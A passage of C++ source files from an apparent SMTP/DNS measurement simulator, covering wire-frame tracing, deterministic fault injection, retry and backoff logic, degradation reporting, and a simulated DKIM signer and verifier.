                    json_escape(frame.src) + "\",\"dst\":\"" +
                    json_escape(frame.dst) + "\",\"dir\":\"" +
                    to_string(frame.direction) + "\",\"kind\":\"" +
                    to_string(frame.kind) + "\"";
  switch (frame.kind) {
    case FrameKind::SmtpCommand:
      if (!frame.verb.empty()) {
        out += ",\"verb\":\"" + json_escape(frame.verb) + "\"";
      }
      out += ",\"text\":\"" + json_escape(frame.text) + "\"";
      break;
    case FrameKind::SmtpReply:
      out += ",\"code\":" + std::to_string(frame.code);
      out += ",\"text\":\"" + json_escape(frame.text) + "\"";
      break;
    case FrameKind::DnsQuery:
      out += ",\"qname\":\"" + json_escape(frame.qname) + "\",\"qtype\":\"" +
             json_escape(frame.qtype) + "\"";
      break;
    case FrameKind::DnsResponse:
      out += ",\"qname\":\"" + json_escape(frame.qname) + "\",\"qtype\":\"" +
             json_escape(frame.qtype) + "\",\"rcode\":\"" +
             json_escape(frame.rcode) +
             "\",\"answers\":" + std::to_string(frame.answers);
      break;
  }
  if (frame.injected) out += ",\"injected\":true";
  out += "}";
  return out;
}

}  // namespace spfail::net
