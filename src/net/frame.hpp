// Typed wire frames for the simulated network (DESIGN.md §10).
//
// Every SMTP dialog line and every DNS request/response that crosses the
// simulated wire is one Frame: who sent it, in which direction, at what
// (lane-relative) simulated time, and the protocol payload in structured
// form. Frames serialise to JSONL for `spfail_scan --trace` and feed
// net::TraceStats; smtp::Client transcripts are the same frames, so the
// dialog is recorded once, in one shape, for every consumer.
#pragma once

#include <cstdint>
#include <ostream>
#include <string>

#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::net {

// One side of a simulated connection. The label is what the trace prints:
// an IP address for hosts, a role name ("authority", "upstream") for
// services that have no address in the simulation.
struct Endpoint {
  std::string label;

  static Endpoint ip(const util::IpAddress& address) {
    return Endpoint{address.to_string()};
  }
  static Endpoint named(std::string name) { return Endpoint{std::move(name)}; }
};

enum class Direction {
  ClientToServer,  // command / query
  ServerToClient,  // reply / response
};

std::string to_string(Direction direction);

enum class FrameKind {
  SmtpCommand,
  SmtpReply,
  DnsQuery,
  DnsResponse,
};

std::string to_string(FrameKind kind);

struct Frame {
  // Simulated time. Inside a WireTrace::Lane this is relative to the lane's
  // anchor (so traces are bit-identical at any thread count: absolute lane
  // clocks differ across shardings, per-test dialogs do not); transcript
  // mirrors record absolute clock time.
  util::SimTime time = 0;
  // Deterministic work-lane id (the master-order label slot of the test that
  // produced the frame) — NOT the worker shard index, which depends on the
  // thread count. 0 outside any lane.
  std::uint64_t lane = 0;
  std::string src;
  std::string dst;
  Direction direction = Direction::ClientToServer;
  FrameKind kind = FrameKind::SmtpCommand;

  // SMTP payload (SmtpCommand / SmtpReply).
  std::string verb;  // command verb ("MAIL", "RCPT", ...); empty for payload
  int code = 0;      // reply code (SmtpReply)
  std::string text;  // full command line or reply line

  // DNS payload (DnsQuery / DnsResponse).
  std::string qname;
  std::string qtype;
  std::string rcode;        // DnsResponse only
  std::size_t answers = 0;  // DnsResponse only

  // True when the fault layer synthesised this frame (injected tempfail,
  // drop, or SERVFAIL) instead of the peer producing it.
  bool injected = false;
};

// One JSON object (no trailing newline). Key order is fixed so traces are
// byte-comparable: t, lane, src, dst, dir, kind, then the kind's payload,
// then "injected" when set.
std::string to_json(const Frame& frame);

// Minimal JSON string escaping for frame fields.
std::string json_escape(std::string_view text);

}  // namespace spfail::net
