#include "net/transport.hpp"

#include <stdexcept>

#include "obs/lane.hpp"
#include "util/rng.hpp"

namespace spfail::net {

namespace {

// The command verb: the first token of the line ("MAIL FROM:<x>" -> "MAIL").
std::string verb_of(const std::string& line) {
  const std::size_t space = line.find(' ');
  return space == std::string::npos ? line : line.substr(0, space);
}

std::optional<faults::SmtpStage> stage_of(const std::string& verb) {
  if (verb == "EHLO" || verb == "HELO") return faults::SmtpStage::Helo;
  if (verb == "MAIL") return faults::SmtpStage::MailFrom;
  if (verb == "RCPT") return faults::SmtpStage::RcptTo;
  if (verb == "DATA") return faults::SmtpStage::Data;
  return std::nullopt;
}

}  // namespace

SmtpChannel::SmtpChannel(Transport& transport, smtp::ServerSession& session,
                         Endpoint client, Endpoint server,
                         faults::FaultDecision fault)
    : transport_(transport),
      session_(session),
      client_(std::move(client)),
      server_(std::move(server)),
      fault_(fault),
      armed_(fault.fails_probe()) {}

bool SmtpChannel::tracing() const noexcept {
  return mirror_ != nullptr || WireTrace::Lane::active();
}

void SmtpChannel::emit(Frame&& frame) {
  if (mirror_ != nullptr) {
    Frame copy = frame;
    copy.time = transport_.now();
    mirror_->record(std::move(copy));
  }
  WireTrace::Lane::record(std::move(frame), transport_.now());
}

void SmtpChannel::emit_command(const std::string& verb,
                               const std::string& line) {
  if (!tracing()) return;
  Frame frame;
  frame.src = client_.label;
  frame.dst = server_.label;
  frame.direction = Direction::ClientToServer;
  frame.kind = FrameKind::SmtpCommand;
  frame.verb = verb;
  frame.text = line;
  emit(std::move(frame));
}

void SmtpChannel::emit_reply(const smtp::Reply& reply, bool injected) {
  if (!tracing()) return;
  Frame frame;
  frame.src = server_.label;
  frame.dst = client_.label;
  frame.direction = Direction::ServerToClient;
  frame.kind = FrameKind::SmtpReply;
  frame.code = reply.code;
  frame.text = reply.code == smtp::kNoReplyCode ? reply.text : reply.line();
  frame.injected = injected;
  emit(std::move(frame));
}

smtp::Reply SmtpChannel::inject() {
  obs::count("net_injected_total", {{"kind", to_string(fault_.kind)}});
  if (fault_.kind == faults::FaultKind::SmtpTempfail) {
    last_injected_ = true;
    const smtp::Reply reply{fault_.smtp_code,
                            "transient network failure (injected)"};
    emit_reply(reply, /*injected=*/true);
    return reply;
  }
  // ConnectionDrop: the TCP connection dies mid-dialog; no reply ever comes.
  session_.force_close();
  dropped_ = true;
  const smtp::Reply silence{smtp::kNoReplyCode,
                            "connection dropped (injected)"};
  emit_reply(silence, /*injected=*/true);
  return silence;
}

smtp::Reply SmtpChannel::greeting() {
  transport_.charge_smtp();
  obs::count("net_frames_total", {{"proto", "smtp"}, {"dir", "s2c"}});
  obs::observe("net_hop_sim_latency", transport_.config().smtp_frame_cost,
               {{"proto", "smtp"}});
  if (armed_ && fault_.stage == faults::SmtpStage::Helo) {
    armed_ = false;
    return inject();
  }
  const smtp::Reply banner = session_.greeting();
  emit_reply(banner, /*injected=*/false);
  return banner;
}

smtp::Reply SmtpChannel::send(const std::string& line) {
  const std::string verb = session_.in_data() ? std::string{} : verb_of(line);
  transport_.charge_smtp();
  obs::count("net_frames_total", {{"proto", "smtp"}, {"dir", "c2s"}});
  obs::observe("net_hop_sim_latency", transport_.config().smtp_frame_cost,
               {{"proto", "smtp"}});
  emit_command(verb, line);
  const auto stage = stage_of(verb);
  if (armed_ && stage.has_value() && *stage == fault_.stage) {
    armed_ = false;
    return inject();
  }
  const smtp::Reply reply = session_.respond(line);
  if (reply.code != smtp::kNoReplyCode) {
    emit_reply(reply, /*injected=*/false);
  }
  return reply;
}

SmtpChannel Transport::open(smtp::ServerSession& session, Endpoint client,
                            Endpoint server,
                            const faults::FaultDecision& fault) {
  // A latency spike stretches the dialog but changes nothing else; it is
  // charged up front, at connection setup.
  if (fault.kind == faults::FaultKind::LatencySpike) {
    charge(fault.latency);
    obs::count("net_injected_total", {{"kind", to_string(fault.kind)}});
    obs::observe("net_injected_latency_sim_seconds", fault.latency);
  }
  return SmtpChannel(*this, session, std::move(client), std::move(server),
                     fault);
}

dns::Message Transport::exchange(dns::DnsService& service,
                                 const dns::Message& query,
                                 const Endpoint& src, const Endpoint& dst,
                                 const util::IpAddress& client,
                                 const faults::FaultDecision& fault) {
  charge(config_.dns_frame_cost);
  obs::count("net_frames_total", {{"proto", "dns"}, {"dir", "c2s"}});
  obs::count("net_frames_total", {{"proto", "dns"}, {"dir", "s2c"}});
  obs::observe("net_hop_sim_latency", config_.dns_frame_cost,
               {{"proto", "dns"}});
  const bool tracing = WireTrace::Lane::active();
  const dns::Question* q =
      query.questions.empty() ? nullptr : &query.questions.front();
  if (tracing && q != nullptr) {
    Frame frame;
    frame.src = src.label;
    frame.dst = dst.label;
    frame.direction = Direction::ClientToServer;
    frame.kind = FrameKind::DnsQuery;
    frame.qname = q->qname.to_string();
    frame.qtype = to_string(q->qtype);
    WireTrace::Lane::record(std::move(frame), now());
  }

  dns::Message response;
  bool injected = false;
  if (fault.is_dns_fault()) {
    // The network ate the query: the service is never reached.
    ++injected_;
    injected = true;
    obs::count("net_injected_total", {{"kind", to_string(fault.kind)}});
    response = dns::Message::make_response(query, dns::Rcode::ServFail);
  } else {
    // Round-trip through the wire codec so the substrate sees real messages.
    response = service.handle(dns::decode(dns::encode(query)), client, now());
  }
  obs::count("dns_rcode_total", {{"rcode", to_string(response.header.rcode)}});

  if (tracing && q != nullptr) {
    Frame frame;
    frame.src = dst.label;
    frame.dst = src.label;
    frame.direction = Direction::ServerToClient;
    frame.kind = FrameKind::DnsResponse;
    frame.qname = q->qname.to_string();
    frame.qtype = to_string(q->qtype);
    frame.rcode = to_string(response.header.rcode);
    frame.answers = response.answers.size();
    frame.injected = injected;
    WireTrace::Lane::record(std::move(frame), now());
  }
  return response;
}

faults::FaultDecision Transport::next_dns_fault(const dns::Name& qname,
                                                dns::RRType qtype) {
  if (plan_ == nullptr || !plan_->enabled()) return {};
  std::uint64_t& attempts = attempt_counters_[std::make_pair(qname, qtype)];
  return plan_->dns_decision(util::fnv1a(qname.to_string()),
                             static_cast<std::uint16_t>(qtype), attempts++);
}

dns::Message Transport::exchange_with_faults(dns::DnsService& service,
                                             const dns::Message& query,
                                             const Endpoint& src,
                                             const Endpoint& dst,
                                             const util::IpAddress& client) {
  faults::FaultDecision fault;
  if (query.questions.size() == 1) {
    const dns::Question& q = query.questions.front();
    fault = next_dns_fault(q.qname, q.qtype);
  }
  return exchange(service, query, src, dst, client, fault);
}

void Transport::charge(util::SimTime cost) {
  if (cost <= 0) return;
  if (clock_ == nullptr) {
    throw std::logic_error(
        "net::Transport: a positive frame cost needs a mutable clock");
  }
  clock_->advance_by(cost);
}

}  // namespace spfail::net
