#include "faults/retry.hpp"

#include "obs/lane.hpp"
#include "util/rng.hpp"

namespace spfail::faults {

std::string to_string(RetryOutcome outcome) {
  switch (outcome) {
    case RetryOutcome::FirstTry:
      return "first-try";
    case RetryOutcome::Recovered:
      return "recovered";
    case RetryOutcome::Exhausted:
      return "exhausted";
  }
  return "?";
}

util::SimTime RetryPolicy::backoff(std::uint64_t key, std::uint64_t round,
                                   int retry_index) const {
  double wait = static_cast<double>(config_.base_backoff);
  for (int i = 0; i < retry_index; ++i) wait *= config_.multiplier;
  const double cap = static_cast<double>(config_.max_backoff);
  if (wait > cap) wait = cap;
  if (config_.jitter > 0.0) {
    std::uint64_t state = config_.seed ^ key;
    state ^= util::splitmix64(state) ^ round;
    state ^= util::splitmix64(state) ^ static_cast<std::uint64_t>(retry_index);
    util::Rng rng(util::splitmix64(state));
    wait *= 1.0 + config_.jitter * (2.0 * rng.uniform01() - 1.0);
  }
  const auto rounded = static_cast<util::SimTime>(wait);
  const auto clamped = rounded < 1 ? 1 : rounded;
  obs::observe("retry_backoff_sim_seconds", clamped);
  return clamped;
}

util::SimTime RetryPolicy::backoff(const util::IpAddress& address,
                                   std::uint64_t round,
                                   int retry_index) const {
  return backoff(util::IpAddressHash{}(address), round, retry_index);
}

}  // namespace spfail::faults
