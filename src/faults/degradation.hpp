// Graceful-degradation accounting: how measurement quality decays as the
// injected fault rate rises (the realism counterpart of the paper's
// conclusive/inconclusive split in §6.1).
//
// Every shard of a fault-injected campaign accumulates one of these and the
// merge step sums them, so the report is as deterministic as the scan itself.
// The invariant the test suite enforces: every address that ever saw a
// transient failure is either retried to a conclusion (recovered) or
// surfaced here (exhausted; breaker-skipped addresses are a subset).
#pragma once

#include <cstddef>
#include <cstdint>

#include "faults/fault.hpp"
#include "util/clock.hpp"
#include "util/table.hpp"

namespace spfail::faults {

struct DegradationReport {
  double configured_rate = 0.0;

  // Probe-level traffic.
  std::size_t probe_attempts = 0;  // SMTP dialogs driven, retries included
  std::size_t retries = 0;         // of those, re-attempts after a transient

  // Injected faults by kind.
  std::size_t injected_tempfail = 0;
  std::size_t injected_drop = 0;
  std::size_t injected_latency = 0;
  std::size_t injected_dns = 0;
  util::SimTime latency_injected = 0;  // total simulated seconds added

  // Per-address outcomes of the retry engine.
  std::size_t transient_addresses = 0;  // ever saw a transient status
  std::size_t recovered = 0;            // ended conclusive/terminal anyway
  std::size_t exhausted = 0;            // still transient at the end

  // Circuit breaker and the inconclusive re-queue wave.
  std::size_t breaker_trips = 0;    // provider groups opened
  std::size_t breaker_skipped = 0;  // addresses not re-queued (group open)
  std::size_t requeued = 0;         // addresses given a re-queue pass
  std::size_t requeue_recovered = 0;

  // Campaign outcome context (conclusive-rate vs fault-rate curves).
  std::size_t addresses_tested = 0;
  std::size_t conclusive = 0;

  std::size_t injected_total() const noexcept {
    return injected_tempfail + injected_drop + injected_latency + injected_dns;
  }
  double conclusive_rate() const noexcept {
    return addresses_tested == 0
               ? 0.0
               : static_cast<double>(conclusive) / addresses_tested;
  }

  // Shard / round merge: counters sum; the configured rate must agree.
  void merge(const DegradationReport& other);

  util::TextTable to_table() const;
};

}  // namespace spfail::faults
