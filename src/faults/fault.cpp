#include "faults/fault.hpp"

#include <cstdlib>

#include "util/rng.hpp"

namespace spfail::faults {

std::string to_string(FaultKind kind) {
  switch (kind) {
    case FaultKind::None:
      return "none";
    case FaultKind::SmtpTempfail:
      return "smtp-tempfail";
    case FaultKind::ConnectionDrop:
      return "connection-drop";
    case FaultKind::LatencySpike:
      return "latency-spike";
    case FaultKind::DnsServfail:
      return "dns-servfail";
    case FaultKind::DnsTimeout:
      return "dns-timeout";
    case FaultKind::LameDelegation:
      return "lame-delegation";
  }
  return "?";
}

std::string to_string(SmtpStage stage) {
  switch (stage) {
    case SmtpStage::Helo:
      return "helo";
    case SmtpStage::MailFrom:
      return "mail-from";
    case SmtpStage::RcptTo:
      return "rcpt-to";
    case SmtpStage::Data:
      return "data";
  }
  return "?";
}

FaultConfig FaultConfig::from_env() {
  FaultConfig config;
  if (const char* seed = std::getenv("SPFAIL_FAULT_SEED");
      seed != nullptr && *seed != '\0') {
    config.seed = static_cast<std::uint64_t>(std::strtoull(seed, nullptr, 10));
  }
  if (const char* rate = std::getenv("SPFAIL_FAULT_RATE");
      rate != nullptr && *rate != '\0') {
    const double parsed = std::strtod(rate, nullptr);
    if (parsed > 0.0) config.rate = parsed > 1.0 ? 1.0 : parsed;
  }
  return config;
}

namespace {

// One keyed stream per decision: fold the key fields through splitmix64 so
// neighbouring keys (attempt n vs n+1) land in unrelated streams.
util::Rng keyed_rng(std::uint64_t seed, std::uint64_t a, std::uint64_t b,
                    std::uint64_t c, std::uint64_t channel) {
  std::uint64_t state = seed ^ channel;
  state ^= util::splitmix64(state) ^ a;
  state ^= util::splitmix64(state) ^ b;
  state ^= util::splitmix64(state) ^ c;
  return util::Rng(util::splitmix64(state));
}

}  // namespace

FaultDecision FaultPlan::probe_decision(const util::IpAddress& address,
                                        std::uint64_t round,
                                        std::uint64_t attempt) const {
  FaultDecision decision;
  if (!enabled()) return decision;
  util::Rng rng = keyed_rng(config_.seed, util::IpAddressHash{}(address), round,
                            attempt, /*channel=*/0x534D5450ULL /* "SMTP" */);
  if (!rng.bernoulli(config_.rate)) return decision;

  // Mix calibrated loosely to what large-scale SMTP scans report: transient
  // 4xx dominates, outright drops and slow paths split the rest.
  const double shape = rng.uniform01();
  if (shape < 0.50) {
    decision.kind = FaultKind::SmtpTempfail;
    static constexpr int kCodes[] = {421, 451, 452};
    decision.smtp_code = kCodes[rng.uniform(0, 2)];
  } else if (shape < 0.75) {
    decision.kind = FaultKind::ConnectionDrop;
  } else {
    decision.kind = FaultKind::LatencySpike;
    decision.latency = static_cast<util::SimTime>(rng.uniform(2, 120));
    return decision;  // stage is meaningless for a latency spike
  }
  static constexpr SmtpStage kStages[] = {SmtpStage::Helo, SmtpStage::MailFrom,
                                          SmtpStage::RcptTo, SmtpStage::Data};
  decision.stage = kStages[rng.uniform(0, 3)];
  return decision;
}

FaultDecision FaultPlan::dns_decision(std::uint64_t qname_hash,
                                      std::uint16_t qtype,
                                      std::uint64_t attempt) const {
  FaultDecision decision;
  if (!enabled()) return decision;
  util::Rng rng = keyed_rng(config_.seed, qname_hash, qtype, attempt,
                            /*channel=*/0x444E53ULL /* "DNS" */);
  if (!rng.bernoulli(config_.rate)) return decision;
  const double shape = rng.uniform01();
  if (shape < 0.50) {
    decision.kind = FaultKind::DnsServfail;
  } else if (shape < 0.80) {
    decision.kind = FaultKind::DnsTimeout;
    decision.latency = static_cast<util::SimTime>(rng.uniform(3, 30));
  } else {
    decision.kind = FaultKind::LameDelegation;
  }
  return decision;
}

}  // namespace spfail::faults
