#include "faults/degradation.hpp"

#include <cstdio>

namespace spfail::faults {

void DegradationReport::merge(const DegradationReport& other) {
  if (configured_rate == 0.0) configured_rate = other.configured_rate;
  probe_attempts += other.probe_attempts;
  retries += other.retries;
  injected_tempfail += other.injected_tempfail;
  injected_drop += other.injected_drop;
  injected_latency += other.injected_latency;
  injected_dns += other.injected_dns;
  latency_injected += other.latency_injected;
  transient_addresses += other.transient_addresses;
  recovered += other.recovered;
  exhausted += other.exhausted;
  breaker_trips += other.breaker_trips;
  breaker_skipped += other.breaker_skipped;
  requeued += other.requeued;
  requeue_recovered += other.requeue_recovered;
  addresses_tested += other.addresses_tested;
  conclusive += other.conclusive;
}

util::TextTable DegradationReport::to_table() const {
  util::TextTable table({"Degradation metric", "Value"},
                        {util::Align::Left, util::Align::Right});
  const auto count = [&](const char* name, std::size_t value) {
    table.add_row({name, std::to_string(value)});
  };
  char rate[32];
  std::snprintf(rate, sizeof(rate), "%.2f%%", configured_rate * 100.0);
  table.add_row({"Configured fault rate", rate});
  count("Probe attempts (retries incl.)", probe_attempts);
  count("Retries", retries);
  table.add_rule();
  count("Injected: SMTP tempfail", injected_tempfail);
  count("Injected: connection drop", injected_drop);
  count("Injected: latency spike", injected_latency);
  count("Injected: DNS fault", injected_dns);
  count("Latency injected (sim s)", static_cast<std::size_t>(latency_injected));
  table.add_rule();
  count("Addresses with transient failures", transient_addresses);
  count("  recovered via retry/re-queue", recovered);
  count("  exhausted (inconclusive)", exhausted);
  count("Circuit-breaker trips", breaker_trips);
  count("  addresses skipped by open breaker", breaker_skipped);
  count("Re-queued addresses", requeued);
  count("  recovered in the re-queue wave", requeue_recovered);
  table.add_rule();
  count("Addresses tested", addresses_tested);
  count("Conclusive measurements", conclusive);
  char conclusive_pct[32];
  std::snprintf(conclusive_pct, sizeof(conclusive_pct), "%.2f%%",
                conclusive_rate() * 100.0);
  table.add_row({"Conclusive rate", conclusive_pct});
  return table;
}

}  // namespace spfail::faults
