// Deterministic fault injection for the measurement apparatus.
//
// The paper's scan ran against the real Internet, where probes routinely hit
// transient SMTP tempfails, dropped connections, and flaky DNS; the authors
// explicitly separate conclusive from inconclusive tests and batch greylist
// retries (§5.1/§6.1). This module injects those failures into the simulated
// network so the conclusive-rate figures and the longitudinal inference face
// realistic noise.
//
// Determinism contract: a FaultPlan is pure. Every decision is a function of
// (seed, key) only — keyed by target address + round + attempt for probes and
// by qname + qtype + attempt for DNS — so a fault-injected campaign is
// bit-identical at any thread count and across reruns with the same
// SPFAIL_FAULT_SEED, exactly like the sharded scan engine's own guarantee.
#pragma once

#include <cstdint>
#include <string>

#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::faults {

// What the injected failure looks like from the scanner's side.
enum class FaultKind {
  None,            // no fault this attempt
  SmtpTempfail,    // transient 4xx (421/451/452) at one SMTP stage
  ConnectionDrop,  // mid-dialog TCP drop at one SMTP stage
  LatencySpike,    // the dialog completes, but slowly
  DnsServfail,     // resolver answers SERVFAIL
  DnsTimeout,      // resolver query times out (surfaces as SERVFAIL late)
  LameDelegation,  // referral chain dead-ends at a lame nameserver
};

std::string to_string(FaultKind kind);

// The SMTP stage an injected tempfail or drop lands on.
enum class SmtpStage { Helo, MailFrom, RcptTo, Data };

std::string to_string(SmtpStage stage);

// One resolved decision: what (if anything) to inject on one attempt.
struct FaultDecision {
  FaultKind kind = FaultKind::None;
  SmtpStage stage = SmtpStage::Helo;  // for SmtpTempfail / ConnectionDrop
  int smtp_code = 0;                  // 421, 451 or 452 for SmtpTempfail
  util::SimTime latency = 0;          // extra seconds for LatencySpike

  bool active() const noexcept { return kind != FaultKind::None; }
  bool fails_probe() const noexcept {
    return kind == FaultKind::SmtpTempfail || kind == FaultKind::ConnectionDrop;
  }
  // A DNS-path fault: eats the query on the wire, surfaces as SERVFAIL.
  bool is_dns_fault() const noexcept {
    return kind == FaultKind::DnsServfail || kind == FaultKind::DnsTimeout ||
           kind == FaultKind::LameDelegation;
  }
};

struct FaultConfig {
  std::uint64_t seed = 0xFA171ULL;
  // Per-attempt probability that any fault is injected. 0 disables the layer
  // entirely (no RNG is consulted; the scan is byte-identical to a build
  // without the fault layer).
  double rate = 0.0;

  // Defaults overridden by SPFAIL_FAULT_SEED / SPFAIL_FAULT_RATE when set.
  static FaultConfig from_env();
};

class FaultPlan {
 public:
  FaultPlan() = default;  // disabled
  explicit FaultPlan(FaultConfig config) : config_(config) {}

  const FaultConfig& config() const noexcept { return config_; }
  bool enabled() const noexcept { return config_.rate > 0.0; }

  // Decision for SMTP probe attempt `attempt` of `address` in measurement
  // round `round`. Pure: same key, same answer, on any thread.
  FaultDecision probe_decision(const util::IpAddress& address,
                               std::uint64_t round,
                               std::uint64_t attempt) const;

  // Decision for DNS resolution attempt `attempt` of (qname-hash, qtype).
  // Callers pass util::fnv1a of the query name's text form.
  FaultDecision dns_decision(std::uint64_t qname_hash, std::uint16_t qtype,
                             std::uint64_t attempt) const;

 private:
  FaultConfig config_;
};

}  // namespace spfail::faults
