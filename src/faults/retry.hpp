// Retry/backoff engine for transient failures.
//
// Replaces the ad-hoc single greylist retry: any transient outcome (greylist
// 451, injected tempfail, dropped connection, DNS SERVFAIL) can be retried up
// to a configured attempt count, with exponential backoff and seeded jitter.
// Jitter draws are keyed by (address/key, round, retry index) — never by call
// order — so backoff schedules are bit-identical at any thread count.
#pragma once

#include <cstdint>
#include <string>

#include "util/clock.hpp"
#include "util/ip.hpp"

namespace spfail::faults {

// How one retried operation ultimately ended (degradation accounting).
enum class RetryOutcome {
  FirstTry,   // no transient failure was ever seen
  Recovered,  // transient at least once, conclusive/terminal in the end
  Exhausted,  // still transient when attempts or budget ran out
};

std::string to_string(RetryOutcome outcome);

struct RetryConfig {
  // Total dialog attempts (1 = no retries). 0 means "derive from the
  // caller's legacy knobs" — the campaign maps it to
  // 1 + max_greylist_retries with a flat greylist backoff.
  int max_attempts = 0;
  util::SimTime base_backoff = 8 * util::kMinute;
  double multiplier = 2.0;                       // exponential growth
  util::SimTime max_backoff = 64 * util::kMinute;  // growth clamp
  double jitter = 0.0;  // +/- fraction of the backoff, seeded (0 = exact)
  // Retries one address may consume across a whole measurement round
  // (all waves plus the re-queue pass).
  int per_address_budget = 16;
  std::uint64_t seed = 0x4241434BULL;  // "BACK"
};

class RetryPolicy {
 public:
  RetryPolicy() = default;
  explicit RetryPolicy(RetryConfig config) : config_(config) {}

  const RetryConfig& config() const noexcept { return config_; }
  int max_attempts() const noexcept {
    return config_.max_attempts < 1 ? 1 : config_.max_attempts;
  }

  // May attempt number `attempts_done + 1` begin? `budget_left` is the
  // address's remaining round-level retry allowance.
  bool allow_retry(int attempts_done, int budget_left) const noexcept {
    return attempts_done < max_attempts() && budget_left > 0;
  }

  // Backoff to wait before retry `retry_index` (0-based: the wait between
  // attempt N and attempt N+1 uses retry_index = N - 1... i.e. first retry
  // waits backoff(key, round, 0)). Deterministically jittered per key.
  util::SimTime backoff(std::uint64_t key, std::uint64_t round,
                        int retry_index) const;
  util::SimTime backoff(const util::IpAddress& address, std::uint64_t round,
                        int retry_index) const;

 private:
  RetryConfig config_;
};

}  // namespace spfail::faults
