#include "dkim/dkim.hpp"

#include <cctype>

#include "util/encoding.hpp"
#include "util/rng.hpp"
#include "util/strings.hpp"

namespace spfail::dkim {

namespace {

// The simulation's keyed digest: iterated FNV-1a rendered as hex. Stands in
// for RSA-SHA256 (see the header's SUBSTITUTION note).
std::string sim_digest(std::string_view data) {
  std::uint64_t h1 = util::fnv1a(data);
  std::uint64_t h2 = util::fnv1a(std::string(data) + "#2");
  char buf[33];
  std::snprintf(buf, sizeof(buf), "%016llx%016llx",
                static_cast<unsigned long long>(h1),
                static_cast<unsigned long long>(h2));
  return buf;
}

// The "public key" is the digest of the secret; the signature binds the
// public key to the signed content.
std::string derive_public(std::string_view secret) {
  return sim_digest(std::string("dkim-public:") + std::string(secret));
}

std::string compute_signature(std::string_view public_key,
                              std::string_view signing_input) {
  return sim_digest(std::string(public_key) + "|" +
                    std::string(signing_input));
}

std::string build_signing_input(const Signature& signature,
                                const mail::Message& message) {
  std::string input;
  for (const auto& name : signature.signed_headers) {
    const auto value = message.first_header(name);
    if (value.has_value()) {
      input += canonicalize_header(name, *value);
      input.push_back('\n');
    }
  }
  input += "d=" + signature.domain.to_string() +
           ";s=" + signature.selector + ";bh=" + signature.body_hash;
  return input;
}

}  // namespace

std::string Signature::to_header_value() const {
  std::string out = "v=" + version + "; a=" + algorithm +
                    "; d=" + domain.to_string() + "; s=" + selector + "; h=";
  out += util::join(signed_headers, ":");
  out += "; bh=" + body_hash + "; b=" + signature;
  return out;
}

Signature parse_signature(std::string_view header_value) {
  Signature signature;
  bool saw_d = false, saw_s = false, saw_b = false, saw_bh = false;
  for (const auto& raw_tag : util::split(header_value, ';')) {
    const std::string_view tag = util::trim(raw_tag);
    if (tag.empty()) continue;
    const std::size_t eq = tag.find('=');
    if (eq == std::string_view::npos) {
      throw SignatureSyntaxError("malformed tag '" + std::string(tag) + "'");
    }
    const std::string name = util::to_lower(util::trim(tag.substr(0, eq)));
    const std::string value{util::trim(tag.substr(eq + 1))};
    if (name == "v") {
      signature.version = value;
    } else if (name == "a") {
      signature.algorithm = value;
    } else if (name == "d") {
      signature.domain = dns::Name::lenient(value);
      saw_d = true;
    } else if (name == "s") {
      signature.selector = value;
      saw_s = true;
    } else if (name == "h") {
      signature.signed_headers.clear();
      for (const auto& h : util::split(value, ':')) {
        signature.signed_headers.push_back(
            util::to_lower(util::trim(h)));
      }
    } else if (name == "bh") {
      signature.body_hash = value;
      saw_bh = true;
    } else if (name == "b") {
      signature.signature = value;
      saw_b = true;
    }
    // Unknown tags ignored, per RFC 6376 section 3.2.
  }
  if (!saw_d || !saw_s || !saw_b || !saw_bh) {
    throw SignatureSyntaxError("missing required DKIM tag (d/s/b/bh)");
  }
  return signature;
}

std::string canonicalize_header(std::string_view name, std::string_view value) {
  // Relaxed: lowercase name, unfold (callers already unfolded), collapse
  // internal whitespace runs, trim.
  std::string out = util::to_lower(name) + ":";
  bool in_space = false;
  bool seen_content = false;
  std::string collapsed;
  for (char c : value) {
    if (c == ' ' || c == '\t') {
      in_space = seen_content;
      continue;
    }
    if (in_space) collapsed.push_back(' ');
    in_space = false;
    seen_content = true;
    collapsed.push_back(c);
  }
  out += collapsed;
  return out;
}

std::string canonicalize_body(std::string_view body) {
  // Relaxed-lite: normalise line endings to LF, strip trailing blank lines.
  std::string out;
  out.reserve(body.size());
  for (char c : body) {
    if (c != '\r') out.push_back(c);
  }
  while (!out.empty() && (out.back() == '\n')) out.pop_back();
  out.push_back('\n');
  return out;
}

std::string key_record_text(std::string_view secret) {
  return "v=DKIM1; k=sim; p=" + derive_public(secret);
}

dns::Name key_record_name(const dns::Name& domain, std::string_view selector) {
  return domain.child("_domainkey").child(selector);
}

void Signer::sign(mail::Message& message,
                  std::vector<std::string> headers_to_sign) const {
  Signature signature;
  signature.domain = domain_;
  signature.selector = selector_;
  for (auto& name : headers_to_sign) {
    if (message.first_header(name).has_value()) {
      signature.signed_headers.push_back(util::to_lower(name));
    }
  }
  signature.body_hash = sim_digest(canonicalize_body(message.body()));
  const std::string public_key = derive_public(secret_);
  signature.signature =
      compute_signature(public_key, build_signing_input(signature, message));
  message.prepend_header("DKIM-Signature", signature.to_header_value());
}

std::string to_string(VerifyResult result) {
  switch (result) {
    case VerifyResult::None:
      return "none";
    case VerifyResult::Pass:
      return "pass";
    case VerifyResult::Fail:
      return "fail";
    case VerifyResult::PermError:
      return "permerror";
  }
  return "?";
}

Verification verify(const mail::Message& message,
                    dns::StubResolver& resolver) {
  Verification verification;
  const auto header = message.first_header("DKIM-Signature");
  if (!header.has_value()) return verification;  // None

  Signature signature;
  try {
    signature = parse_signature(*header);
  } catch (const SignatureSyntaxError&) {
    verification.result = VerifyResult::PermError;
    return verification;
  }
  verification.domain = signature.domain;

  // Fetch the public key.
  std::optional<std::string> public_key;
  for (const auto& txt : resolver.txt(
           key_record_name(signature.domain, signature.selector))) {
    if (!txt.starts_with("v=DKIM1")) continue;
    const std::size_t p = txt.find("p=");
    if (p != std::string::npos) {
      public_key = std::string(util::trim(std::string_view(txt).substr(p + 2)));
    }
  }
  if (!public_key.has_value() || public_key->empty()) {
    verification.result = VerifyResult::PermError;
    return verification;
  }

  // Recompute body hash and signature.
  if (sim_digest(canonicalize_body(message.body())) != signature.body_hash) {
    verification.result = VerifyResult::Fail;
    return verification;
  }
  const std::string expected =
      compute_signature(*public_key, build_signing_input(signature, message));
  verification.result = expected == signature.signature ? VerifyResult::Pass
                                                        : VerifyResult::Fail;
  return verification;
}

}  // namespace spfail::dkim
