// DKIM (RFC 6376) for the simulation: signature header parsing, signing,
// DNS key records, and verification — completing the SPF/DKIM/DMARC triad
// the paper's ecosystem discussion (§2, §6.2, related work [3][6]) rests on.
//
